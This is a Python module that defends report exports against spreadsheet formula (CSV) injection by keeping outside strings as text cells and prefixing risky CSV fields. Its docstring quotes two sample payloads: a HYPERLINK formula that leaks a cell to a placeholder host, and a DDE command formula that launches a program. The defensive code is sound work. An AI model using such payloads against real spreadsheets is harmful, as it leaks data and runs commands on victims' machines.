"""Spreadsheet cells from outside data: always text, never a formula (issue #14).

Why: complaint texts, phone numbers, survey answers, file names and officials' names reach
the XLSX reports as received. openpyxl stores any string starting with ``=`` as a formula
(so does pandas' ``to_excel``), and Excel and LibreOffice evaluate it on opening:
``=HYPERLINK("http://x/?leak="&B2)`` sends a neighbouring cell away, ``=cmd|' /C calc'!A0``
asks to run a program (OWASP, "CSV Injection"). The rule, in this one place:

* **XLSX**: every ``str`` value is a string cell (openpyxl ``data_type "s"``, written as
  ``t="inlineStr"``). Excel and LibreOffice never evaluate a string cell, so the text is
  kept exactly, without an apostrophe: ``+62812…`` stays a readable, searchable phone
  number. A string that a spreadsheet would take as a formula if an officer re-typed it
  (leading ``=``, ``+``, ``-``, ``@``, tab, CR) also gets the cell's ``quotePrefix``, the
  XLSX form of the leading apostrophe: it is not part of the value, it is not shown, and
  editing the cell (F2, Enter) keeps it text.
* **CSV** has no cell types, so a field starting with one of those characters gets a
  leading ``'``, as OWASP recommends (the apostrophe is then part of the data).
* Numbers, dates and ``None`` are written as they are: the counts, durations and
  percentages loket computes stay numbers an officer can compute with.
* loket writes no formula of its own. One it ever means to write is set on its cell after
  the row is written, where a reviewer sees it, never passed in as a string.

Every XLSX loket writes (complaint, SLA and SKM reports) is made by
:func:`loket.documents.officedocs.write_xlsx`, which puts values on a sheet only through
:func:`append_row`; pandas' ``to_excel`` is not used. The SKM report re-opens its XLSX to add
a chart: openpyxl reads string cells back as strings, so the rule survives the second save.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import TYPE_CHECKING, Final, TypeVar

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

#: First characters that make a spreadsheet read a typed or imported text as a formula.
FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")


def would_be_evaluated(text: str) -> bool:
    """True when a spreadsheet would read ``text``, typed or imported, as a formula."""
    return text.startswith(FORMULA_TRIGGERS)


def keep_text(cell: Cell) -> None:
    """Make ``cell``, holding a ``str``, a string cell: never a formula or an error value.

    openpyxl has already typed the value on assignment (``"=…"`` as a formula, ``"#N/A"``
    as an error); the string type set here is what is written to the file.
    """
    value = cell.value
    if not isinstance(value, str):
        return
    cell.data_type = "s"
    if would_be_evaluated(value):
        cell.quotePrefix = True


def append_row(ws: Worksheet, values: Sequence[object]) -> None:
    """Append ``values`` to ``ws`` with every ``str`` kept as text.

    The only way :func:`loket.documents.officedocs.write_xlsx` puts values on a sheet.
    """
    ws.append(list(values))
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            keep_text(ws.cell(row=ws.max_row, column=column))


def csv_field(value: T) -> T | str:
    """``value`` for a CSV file: a ``str`` a spreadsheet would evaluate gets a leading ``'``.

    Every CSV writer of loket passes each field through here (there is none today: the
    only CSV loket handles, the SMS gateway export, is read, not written).
    """
    if isinstance(value, str) and would_be_evaluated(value):
        return "'" + value
    return value
